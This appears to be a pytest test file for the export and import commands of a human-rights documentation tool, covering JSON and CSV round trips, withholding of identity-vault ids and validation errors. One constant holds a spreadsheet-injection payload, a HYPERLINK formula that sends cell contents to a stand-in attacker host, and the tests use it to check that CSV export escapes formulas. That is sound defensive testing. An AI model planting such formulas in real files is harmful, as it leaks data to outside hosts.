"""`dignity records export` and `import` between two stores of their own.

The source store holds a documented event (two acts, a perpetrator group, a source's information,
an act whose place is a spreadsheet formula, a person with an identity in the vault); the target
store holds one empty project. What one exports, the other imports, and exporting it again gives
the same records. A bad file is refused with every problem named by file, record and field.
"""

from __future__ import annotations

import csv
import io
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from conftest import PostgresDatabases, _new_store_url, make_settings
from dignity.audit import record_event
from dignity.audit.models import AuditEvent
from dignity.cli import app
from dignity.cli.context import state
from dignity.documentation import services as docs
from dignity.documentation import transfer
from dignity.documentation.fields import RECORD_TYPES
from dignity.documentation.models import Person
from dignity.security.permissions import Role
from dignity.settings import Settings
from dignity.store import create_engine, make_sessionmaker, migrate
from factories.documentation import story
from factories.monitoring import reviewer, team

SOURCE, COPY = "Darfur 2023", "Darfur 2023 (copy)"  # the project of each store
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
VAULT_ID = "5f0e7a52-8d7c-4c39-9a55-0d6f3b1c2e4a"
runner = CliRunner()


@dataclass
class Stores:
    source: Settings
    target: Settings
    ids: dict[str, str]
    target_project: str  # id of the empty project of the target store


@pytest.fixture
def stores(
    tmp_path: Path, fresh_store_url: str, postgres: PostgresDatabases | None
) -> Iterator[Stores]:
    target_url = _new_store_url(postgres, tmp_path / "target")
    for url in (fresh_store_url, target_url):
        engine = create_engine(url)
        migrate.upgrade(engine)
        engine.dispose()
    with _session(fresh_store_url) as session:
        project = team(session, SOURCE)
        lead = reviewer(session, "lead", project, Role.INVESTIGATOR)
        ids = story(session, lead, project)
        docs.update_record(session, lead, "acts", ids["act"], revision=1, values={"place": FORMULA})
        docs.create_record(
            session,
            lead,
            "information",
            project.id,
            {
                "source_id": ids["victim"],
                "event_id": ids["event"],
                "reliability": "reliability.high",
            },
        )
        victim = session.get(Person, ids["victim"])
        assert victim is not None
        victim.identity_id = VAULT_ID  # the vault itself is the consent capability's
    with _session(target_url) as session:
        target_project = team(session, COPY).id
    yield Stores(
        make_settings(tmp_path / "source", database_url=fresh_store_url),
        make_settings(tmp_path / "target", database_url=target_url),
        ids,
        target_project,
    )
    state.configure(None)


@contextmanager
def _session(url: str) -> Iterator[Session]:
    """A committed unit of work on the store at `url`, its engine closed afterwards."""
    engine = create_engine(url)
    try:
        with make_sessionmaker(engine)() as session:
            yield session
            session.commit()
    finally:
        engine.dispose()


def _run(settings: Settings, *args: str) -> tuple[int, str, str]:
    state.configure(settings)
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def _ok(result: tuple[int, str, str]) -> str:
    code, out, err = result
    assert code == 0, err or out
    return out


def _export(settings: Settings, project: str, out: Path, *options: str) -> tuple[int, str, str]:
    return _run(settings, "records", "export", "--project", project, "--out", str(out), *options)


def _import(settings: Settings, path: Path, *options: str) -> tuple[int, str, str]:
    return _run(settings, "records", "import", str(path), "--project", COPY, *options)


def _load(path: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return document


def _stored(settings: Settings) -> dict[str, int]:
    """Rows of each record type in the store, and the import audit events."""
    with _session(settings.sqlalchemy_url) as session:
        counts = {
            name: session.execute(select(func.count()).select_from(kind.model)).scalar_one()
            for name, kind in RECORD_TYPES.items()
        }
        counts["imported"] = session.execute(
            select(func.count())
            .select_from(AuditEvent)
            .where(AuditEvent.action == "documentation.imported")
        ).scalar_one()
    return counts


def test_a_project_round_trips_through_json_into_an_empty_store(
    stores: Stores, tmp_path: Path
) -> None:
    exported = tmp_path / "darfur.json"
    out = _ok(_export(stores.source, SOURCE, exported))
    assert f"{SOURCE}: wrote 8 records to {exported}" in out
    assert exported.stat().st_mode & 0o777 == 0o600
    document = _load(exported)
    assert {name: len(rows) for name, rows in document["records"].items() if rows} == {
        "events": 1,
        "persons": 3,
        "acts": 2,
        "involvements": 1,
        "information": 1,
    }
    # The identity vault is not exported: a person travels as its pseudonymous code only.
    assert VAULT_ID not in exported.read_text(encoding="utf-8")
    assert all("identity_id" not in person for person in document["records"]["persons"])

    out = _ok(
        _run(stores.target, "records", "import", str(exported), "--project", stores.target_project)
    )
    assert f"darfur.json: imported 8 records into {COPY}" in out
    assert "  acts                   2" in out.splitlines()

    again = tmp_path / "copy.json"
    _ok(_export(stores.target, COPY, again))
    copy = _load(again)
    assert copy["project"]["id"] == stores.target_project
    assert copy["records"] == document["records"]
    assert copy["history"] == document["history"]
    with _session(stores.target.sqlalchemy_url) as session:
        victim = session.get(Person, stores.ids["victim"])
        assert victim is not None
        assert victim.identity_id is None
    assert _stored(stores.target)["imported"] == 1
    with _session(stores.source.sqlalchemy_url) as session:
        exports = session.execute(
            select(AuditEvent.actor, AuditEvent.details).where(
                AuditEvent.action == "documentation.exported"
            )
        ).all()
    assert [(actor.split(":")[0], json.loads(details)["format"]) for actor, details in exports] == [
        ("operator", "json")
    ]


def test_a_csv_folder_escapes_formulas_and_round_trips(stores: Stores, tmp_path: Path) -> None:
    folder = tmp_path / "darfur"
    out = _ok(_export(stores.source, SOURCE, folder, "--format", "csv"))
    assert f"wrote 8 records to {folder}/" in out
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{n}.csv" for n in RECORD_TYPES)
    acts = (folder / "acts.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in acts
    assert "\n=" not in acts
    assert ",=" not in acts

    out = _ok(_import(stores.target, folder))
    assert f"darfur: imported 8 records into {COPY}" in out

    original, copy = tmp_path / "original.json", tmp_path / "copy.json"
    _ok(_export(stores.source, SOURCE, original))
    _ok(_export(stores.target, COPY, copy))
    assert _load(copy)["records"] == _load(original)["records"]
    assert FORMULA in [act["place"] for act in _load(copy)["records"]["acts"]]


def test_one_record_type_at_a_time_may_refer_to_what_the_project_holds(
    stores: Stores, tmp_path: Path
) -> None:
    for name in ("events", "persons", "acts"):
        _ok(
            _export(
                stores.source, SOURCE, tmp_path / f"{name}.csv", "--format", "csv", "--type", name
            )
        )
    acts = tmp_path / "acts.csv"
    rows = list(csv.DictReader(io.StringIO(acts.read_text(encoding="utf-8"))))
    code, _, err = _import(stores.target, acts)
    assert code == 1
    assert err.splitlines() == [
        f"error: {acts}: the import has 4 problems; nothing was stored",
        *(
            line
            for number, row in enumerate(rows, start=1)
            for line in (
                f"{acts}: record {number} (id {row['id']}) field event_id: "
                f"no events record {row['event_id']}",
                f"{acts}: record {number} (id {row['id']}) field victim_id: "
                f"no persons record {row['victim_id']}",
            )
        ),
    ]
    assert _stored(stores.target)["acts"] == 0

    _ok(_import(stores.target, tmp_path / "events.csv"))
    _ok(_import(stores.target, tmp_path / "persons.csv"))
    out = _ok(_import(stores.target, acts, "--type", "acts"))
    assert f"acts.csv: imported 2 records into {COPY}" in out
    counts = _stored(stores.target)
    assert (counts["events"], counts["persons"], counts["acts"], counts["imported"]) == (1, 3, 2, 3)


def test_a_bad_file_names_file_record_and_field_and_stores_nothing(
    stores: Stores, tmp_path: Path
) -> None:
    exported = tmp_path / "darfur.json"
    _ok(_export(stores.source, SOURCE, exported))
    document = _load(exported)
    records = document["records"]
    records["events"][0]["start_date"] = "2023-13"
    records["acts"][0]["act_type"] = "act.no-such-act"
    records["acts"][1]["victim_id"] = "00000000-0000-0000-0000-000000000000"
    exported.write_text(json.dumps(document), encoding="utf-8")
    code, out, err = _import(stores.target, exported)
    assert (code, out) == (1, "")
    event, first, second = (
        records["events"][0]["id"],
        records["acts"][0]["id"],
        records["acts"][1]["id"],
    )
    assert err.splitlines() == [
        f"error: {exported}: the import has 3 problems; nothing was stored",
        f"{exported}: record events[1] (id {event}) field start_date: no such date",
        f"{exported}: record acts[1] (id {first}) field act_type: "
        "not a term of the Types of acts vocabulary (act)",
        f"{exported}: record acts[2] (id {second}) field victim_id: "
        "no persons record 00000000-0000-0000-0000-000000000000",
    ]
    assert set(_stored(stores.target).values()) == {0}


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("{not json", "not a JSON export (Expecting property name"),
        ('{"format": "other/1", "records": {}}', "format: dignity-documentation/1"),
        (
            '{"format": "dignity-documentation/1", "records": {"victims": []}}',
            "records.victims: not a record type",
        ),
    ],
    ids=["not-json", "other-format", "unknown-type"],
)
def test_a_file_that_is_no_export_is_refused(
    stores: Stores, tmp_path: Path, content: str, message: str
) -> None:
    path = tmp_path / "records.json"
    path.write_text(content, encoding="utf-8")
    code, _, err = _import(stores.target, path)
    assert code == 1
    assert message in err
    assert set(_stored(stores.target).values()) == {0}


def test_a_bad_csv_cell_is_named_by_record_and_column(stores: Stores, tmp_path: Path) -> None:
    events = tmp_path / "events.csv"
    _ok(_export(stores.source, SOURCE, events, "--format", "csv", "--type", "events"))
    text = events.read_text(encoding="utf-8")
    assert text.count(",sd,") == 1
    events.write_text(text.replace(",sd,", ",Sudan,"), encoding="utf-8")
    code, _, err = _import(stores.target, events)
    assert code == 1
    assert (
        f"{events}: record 1 (id {stores.ids['event']}) field country: "
        "an ISO 3166 code in lower case (ua, sd, mm)"
    ) in err.splitlines()
    assert set(_stored(stores.target).values()) == {0}


def test_an_export_overwrites_only_with_force(stores: Stores, tmp_path: Path) -> None:
    exported = tmp_path / "darfur.json"
    exported.write_text("keep me", encoding="utf-8")
    code, _, err = _export(stores.source, SOURCE, exported)
    assert code == 1
    assert f"{exported} already exists; nothing was written (--force overwrites)" in err
    assert exported.read_text(encoding="utf-8") == "keep me"
    _ok(_export(stores.source, SOURCE, exported, "--force"))
    assert len(_load(exported)["records"]["acts"]) == 2
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temp files

    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "persons.csv").write_text("keep me", encoding="utf-8")
    code, _, err = _export(stores.source, SOURCE, folder, "--format", "csv")
    assert code == 1
    assert f"{folder / 'persons.csv'} already exists" in err
    assert [p.name for p in folder.iterdir()] == ["persons.csv"]
    _ok(_export(stores.source, SOURCE, folder, "--format", "csv", "--force"))
    assert (folder / "persons.csv").read_text(encoding="utf-8").startswith("id,kind,sex,")
    assert len(list(folder.iterdir())) == len(RECORD_TYPES)


def test_unknown_project_and_bad_options(stores: Stores, tmp_path: Path) -> None:
    code, _, err = _export(stores.source, "Nope", tmp_path / "x.json")
    assert (code, err.strip()) == (1, "error: no project named 'Nope'")
    assert not (tmp_path / "x.json").exists()
    code, _, err = _export(stores.source, SOURCE, tmp_path / "acts.json", "--type", "acts")
    assert code == 1
    assert "--type needs --format csv and a record type" in err


def test_a_server_writing_during_an_export_does_not_make_it_fail(
    stores: Stores, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The export reads for long, then records itself: in a short transaction of its own, once
    # the file is written, so a server's write meanwhile is no harm (on SQLite the long read
    # could not write any more: "database is locked").
    real = transfer.export_project

    def write_elsewhere() -> None:
        with _session(stores.source.sqlalchemy_url) as other:
            record_event(other, actor="server", action="test.meanwhile", object_type="test")

    def interleaved(session: Session, *args: Any) -> dict[str, Any]:
        session.execute(select(func.count()).select_from(AuditEvent))  # it has read
        writer = threading.Thread(target=write_elsewhere)
        writer.start()
        writer.join(timeout=30)
        return real(session, *args)

    monkeypatch.setattr(transfer, "export_project", interleaved)
    exported = tmp_path / "darfur.json"
    _ok(_export(stores.source, SOURCE, exported))
    assert _load(exported)["records"]["acts"]
    with _session(stores.source.sqlalchemy_url) as session:
        actions = session.scalars(select(AuditEvent.action).order_by(AuditEvent.seq)).all()
    assert actions[-2:] == ["test.meanwhile", "documentation.exported"]
